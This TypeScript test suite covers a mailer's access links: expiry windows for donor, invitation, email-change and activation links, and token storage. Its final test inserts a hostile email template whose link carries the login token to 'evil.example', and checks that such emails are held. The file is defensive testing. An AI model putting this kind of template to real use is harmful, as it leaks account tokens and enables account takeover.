import { afterAll, afterEach, beforeEach, expect, it } from "vitest";
import { connectMailer } from "./mailer.ts";
import { postponeEmails, sql } from "./stack.ts";

const EMAIL_ADDRESS = "linked@example.org";
const { database, runMailer, queueEmails } = connectMailer(EMAIL_ADDRESS);

beforeEach(() => postponeEmails());
afterEach(() => sql`delete from public.email_outbox where to_email = ${EMAIL_ADDRESS}`);
afterAll(() => database.close());

it("sending a donor link makes it valid for 24 hours and doesn't store its token in the email's row", async () => {
  const [row] = await sql<
    [{ id: string }]
  >`select private.create_donor_link(${EMAIL_ADDRESS}) as id`;
  await sql`
    update public.donor_links
    set created_at = created_at - interval '30 hours', expires_at = expires_at - interval '30 hours'
    where id = ${row.id}`;
  const ids = await queueEmails(1, "Gift Link", { name: "Ada", giftLinkId: row.id });
  const { attemptedEmails } = await runMailer();
  const linkMatch = /https:\/\/www\.example\.org\/manage-gift#token=(\S+)/.exec(
    attemptedEmails[0]?.text ?? "",
  );
  expect(linkMatch?.[1]).toMatch(new RegExp(`^${row.id}\\.[0-9a-f]{64}$`));
  expect(attemptedEmails[0]?.html).toContain(`href="${linkMatch?.[0]}"`);
  const [storedRow] =
    await sql`select to_jsonb(mail)::text as text from public.email_outbox as mail where id = ${ids[0]!}`;
  expect(storedRow?.["text"]).not.toContain(linkMatch?.[1]?.split(".")[1]);
  const readHoursLeft = async () => {
    const [{ hours }] = await sql<[{ hours: number }]>`
      select round(extract(epoch from expires_at - now()) / 3600)::int as hours
      from public.donor_links where id = ${row.id}`;
    return hours;
  };
  expect(await readHoursLeft()).toBe(24);

  await sql`
    update public.donor_links set used_at = now(), created_at = now() - interval '25 hours',
      expires_at = now() - interval '1 hour'
    where id = ${row.id}`;
  await queueEmails(1, "Gift Link", { name: "Ada", giftLinkId: row.id });
  await runMailer();
  expect(await readHoursLeft(), "a used link stays used").toBe(-1);
  await sql`delete from public.donor_links where id = ${row.id}`;
});

it("an invitation's link works for seven days from when its email goes out, whatever its template says", async () => {
  const [{ id }] = await sql<[{ id: string }]>`
    insert into public.admin_invitations (email, invited_by, created_at, expires_at)
    select ${EMAIL_ADDRESS}, id, now() - interval '10 days', now() - interval '3 days'
    from public.users where username = 'admin' returning id`;
  await queueEmails(1, "Administrator Invitation", { inviter: "admin", invitationLinkId: id });
  const { attemptedEmails } = await runMailer();
  const linkMatch = /https:\/\/www\.example\.org\/join#token=(\S+)/.exec(
    attemptedEmails[0]?.text ?? "",
  );
  expect(linkMatch?.[1]).toMatch(new RegExp(`^${id}\\.[0-9a-f]{64}$`));
  const [{ days }] = await sql<[{ days: number }]>`
    select round(extract(epoch from expires_at - now()) / 86400)::int as days
    from public.admin_invitations where id = ${id}`;
  expect(days).toBe(7);
  await sql`delete from public.admin_invitations where id = ${id}`;
});

it("the link to a new email works for a day from when its email goes out, whatever its template says", async () => {
  const [{ id, accountId }] = await sql<[{ id: string; accountId: string }]>`
    with login as (
      insert into auth.users (id, email) values (gen_random_uuid(), ${`former-${EMAIL_ADDRESS}`}) returning id
    ), account as (
      insert into public.volunteer_accounts (id, email, first_name, last_name)
      select id, ${`former-${EMAIL_ADDRESS}`}, 'Ada', 'Lovelace' from login returning id
    )
    insert into public.email_changes (account_id, email, created_at, expires_at)
    select id, ${EMAIL_ADDRESS}, now() - interval '3 days', now() - interval '2 days' from account
    returning id, account_id as "accountId"`;
  await queueEmails(1, "Confirm New Email", { name: "Ada", emailChangeLinkId: id });
  const { attemptedEmails } = await runMailer();
  const linkMatch = /https:\/\/www\.example\.org\/confirm-email#token=(\S+)/.exec(
    attemptedEmails[0]?.text ?? "",
  );
  expect(linkMatch?.[1]).toMatch(new RegExp(`^${id}\\.[0-9a-f]{64}$`));
  const [{ hours }] = await sql<[{ hours: number }]>`
    select round(extract(epoch from expires_at - now()) / 3600)::int as hours
    from public.email_changes where id = ${id}`;
  expect(hours).toBe(24);
  await sql`delete from auth.users where id = ${accountId}`;
});

it("threat 7: the approval email contains the activation link, whatever its template says", async () => {
  const [{ id }] = await sql<[{ id: string }]>`
    with application as (
      insert into public.volunteer_applications (first_name, last_name, email, availability, status, reviewed_at)
      values ('Ada', 'Lovelace', ${EMAIL_ADDRESS}, 'weekends', 'approved', now()) returning id
    )
    select private.create_activation_link(id) as id from application`;
  await sql`
    update public.activation_links
    set created_at = created_at - interval '10 days', expires_at = expires_at - interval '10 days'
    where id = ${id}`;
  await queueEmails(1, "Volunteer Application Approved", { name: "Ada", activationLinkId: id });
  const { attemptedEmails } = await runMailer();
  const linkMatch = /https:\/\/www\.example\.org\/activate#token=([^&\s]+)&email=\S+/.exec(
    attemptedEmails[0]?.text ?? "",
  );
  expect(linkMatch?.[1]).toMatch(new RegExp(`^${id}\\.[0-9a-f]{64}$`));
  expect(attemptedEmails[0]?.html).toContain(`href="${linkMatch?.[0].replace("&", "&amp;")}"`);
  expect(linkMatch?.[0]).toMatch(new RegExp(`&email=${encodeURIComponent(EMAIL_ADDRESS)}$`));
  const [{ days }] = await sql<[{ days: number }]>`
    select round(extract(epoch from expires_at - now()) / 86400)::int as days
    from public.activation_links where id = ${id}`;
  expect(days, "the link becomes valid when the email is sent").toBe(7);
  await sql`delete from public.volunteer_applications where email = ${EMAIL_ADDRESS}`;
});

it("threat 68: a stored template that would take the token to another site holds its emails, however it was stored", async () => {
  await sql`
    insert into public.email_templates (name, subject, html_content)
    values ('Gift Link', 'Your link', '<p><a href="https://evil.example/?t={{giftLink}}">Open</a></p>')
    on conflict (name) do update set html_content = excluded.html_content`;
  const [link] = await sql<[{ id: string }]>`
    select private.create_donor_link(${EMAIL_ADDRESS}) as id`;
  const [id = ""] = await queueEmails(1, "Gift Link", { name: "Ada", giftLinkId: link.id });
  const { attemptedEmails } = await runMailer();
  expect(attemptedEmails).toEqual([]);
  const [mail] = await sql`select status, last_error from public.email_outbox where id = ${id}`;
  expect(mail).toMatchObject({
    status: "held",
    last_error: expect.stringContaining("only the whole address of a link"),
  });
  await sql`delete from public.donor_links where id = ${link.id}`;
  await sql`delete from public.email_templates where name = 'Gift Link'`;
});
